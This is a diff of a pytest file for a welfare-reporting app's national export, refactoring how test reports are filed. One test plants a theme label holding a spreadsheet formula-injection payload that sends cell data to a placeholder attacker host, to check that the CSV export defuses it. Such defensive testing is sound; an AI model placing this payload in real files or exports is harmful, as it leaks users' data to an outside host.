@@ -11,7 +11,7 @@ from pathlib import Path
 import jsonschema
 import pytest
 import sqlalchemy as sa
-from helpers import ROLES, csrf_token, login
+from helpers import ROLES, add_report, csrf_token, login
 
 from app.codes import AuditAction, CompilationAction, Nature, Phenomenon
 from app.config import ROOT
@@ -20,7 +20,6 @@ from app.models import ApiToken, AuditEntry, Municipality, Theme
 from app.workflow.admin import api_tokens
 from app.workflow.compilations import operations as compilations
 from app.workflow.compilations.periods import Period
-from app.workflow.reports.filing import ReportInput, file_report
 from app.workflow.welfare import national_export
 
 PERIOD = Period(2026, 1)
@@ -38,9 +37,8 @@ def published(org):  # type: ignore[no-untyped-def]
     siilinjarvi = db.session.scalar(sa.select(Municipality).where(Municipality.name == "Siilinjärvi"))
 
     def file(unit, month, **fields):  # type: ignore[no-untyped-def]
-        values = {"nature": Nature.NEGATIVE, "phenomenon": Phenomenon.SOCIAL_PROBLEMS, "description": "Kuvaus."}
-        values.update(fields)
-        file_report(ReportInput(unit=unit, **values), now=datetime(2026, month, 1, 10, tzinfo=timezone.utc))
+        add_report(unit, now=datetime(2026, month, 1, 10, tzinfo=timezone.utc),
+                   **{"nature": Nature.NEGATIVE, "phenomenon": Phenomenon.SOCIAL_PROBLEMS, **fields})
 
     file(org["unit"], 2, themes=[themes["housing"], themes["income"]])
     file(org["other_unit"], 3, themes=[themes["substance_use_and_mental_health"]],
@@ -103,12 +101,12 @@ def test_csv_carries_the_same_counts(app_ctx, published):
     assert len(rows) == len(national_export.csv_rows(export))
 
 
-def test_csv_labels_that_a_spreadsheet_would_run_are_text_and_codes_stay_numbers(app_ctx, org):
+def test_csv_labels_that_a_spreadsheet_would_run_are_text_and_codes_stay_numbers(app_ctx, org, create_report):
     """A county's own theme may be named anything; the CSV guards it, the JSON carries it as it is."""
     own = Theme(code="own_theme", label_fi='=HYPERLINK("http://evil.example/?d="&A1;"Avaa")', label_en="Own")
     db.session.add(own)
-    file_report(ReportInput(unit=org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS,
-                            description="Kuvaus.", themes=[own]), now=datetime(2026, 2, 1, 10, tzinfo=timezone.utc))
+    create_report(org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS, themes=[own],
+                  now=datetime(2026, 2, 1, 10, tzinfo=timezone.utc))
     compilation = compilations.open_compilation(PERIOD, org["working_group"])
     compilations.perform(CompilationAction.SEND_FOR_REVIEW, compilation, org["working_group"])
     compilations.perform(CompilationAction.APPROVE, compilation, org["review_body"])
